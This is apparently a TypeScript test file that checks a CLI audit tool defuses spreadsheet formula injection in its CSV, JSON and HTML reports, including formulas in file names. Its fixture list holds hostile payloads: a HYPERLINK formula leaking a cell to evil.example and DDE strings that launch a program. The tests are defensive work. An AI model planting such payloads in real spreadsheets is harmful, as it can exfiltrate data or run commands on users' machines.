/**
 * @fileoverview Spreadsheet formulas in input: `=HYPERLINK(…)`, `@SUM(…)`, `+…`, `-…` as CSV rule names stay verbatim
 * as data (parse JSON, JSON report) and inert everywhere we write them: no cell of our CSV report starts with
 * `=`, `+`, `-`, `@`, tab or CR (such cells get a leading `'`), also when the formula arrives through the export's
 * file name; the HTML report shows them as escaped text.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { REPORT_FORMATS } from '../../reports/index.js';
import { cli, compareFarm, ROOT, tempDir, tempFile } from './helpers.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3', '=1+1'];

/** fixtures/hostile/formula-names.csv: a native CSV whose block rules, named with the formulas, cut K2 ports. */
function nativeCsv(): string {
  return readFileSync(join(ROOT, 'fixtures/hostile/formula-names.csv'), 'utf8');
}

/** Every cell of our CSV report: none starts like a formula. */
function assertCsvInert(text: string, what: string): string[][] {
  const rows = parseCsv(text, { relax_column_count: false }) as string[][];
  assert.ok(rows.length > 1, `${what}: has rows`);
  for (const row of rows) for (const cell of row) assert.not.ok(/^[=+\-@\t\r]/.test(cell), `${what}: live formula cell ${JSON.stringify(cell)}`);
  return rows;
}

test('formula names are kept verbatim as data (parse JSON)', async () => {
  const path = tempFile('formulas.csv', nativeCsv());
  const r = await cli(['parse', path, '--format', 'json']);
  assert.is(r.code, 0, r.stderr);
  const names = (JSON.parse(r.stdout) as { rules: { name: string }[] }).rules.map((x) => x.name);
  assert.equal(names, FORMULAS);
});

test('formula names: verbatim in the JSON report, escaped text in HTML, and the CSV report has no live formula', async () => {
  const out = tempDir();
  const path = tempFile('formulas.csv', nativeCsv());
  const r = await compareFarm(path, ...REPORT_FORMATS.flatMap((f) => ['--format', f]), '--out', out);
  assert.ok(r.code === 0 || r.code === 1, r.stderr);
  const json = readFileSync(join(out, 'k2audit-report.json'), 'utf8');
  assert.ok(json.includes(JSON.stringify(FORMULAS[1]).slice(1, -1)), 'JSON report cites a formula name verbatim');
  if (REPORT_FORMATS.includes('csv')) assertCsvInert(readFileSync(join(out, 'k2audit-report.csv'), 'utf8'), 'csv report');
  if (REPORT_FORMATS.includes('html')) {
    const html = readFileSync(join(out, 'k2audit-report.html'), 'utf8');
    assert.ok(html.includes('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1'), 'HTML shows the name as escaped text');
  }
});

test('a formula in the export file name (cited in the CSV report\'s rules column) is defused with a leading quote', () => {
  if (!REPORT_FORMATS.includes('csv')) return;
  const dir = tempDir();
  const name = '=HYPERLINK("http:x";"y").csv';
  writeFileSync(join(dir, name), nativeCsv());
  const bin = join(ROOT, 'dist/src/cli/bin.js');
  const run = spawnSync(process.execPath, [bin, 'compare', name, '--profile', 'farm', '--format', 'csv', '--fail-on', 'none', '--timestamp', '2024-01-01T00:00:00Z'], { cwd: dir, encoding: 'utf8' });
  assert.is(run.status, 0, run.stderr);
  const rows = assertCsvInert(run.stdout, 'file-name formula');
  const cells = rows.flat();
  assert.ok(cells.some((c) => c.startsWith(`'${name}:`) || c.startsWith(`'${name}#`)), 'the rules cell cites the file, defused');
});

test.run();
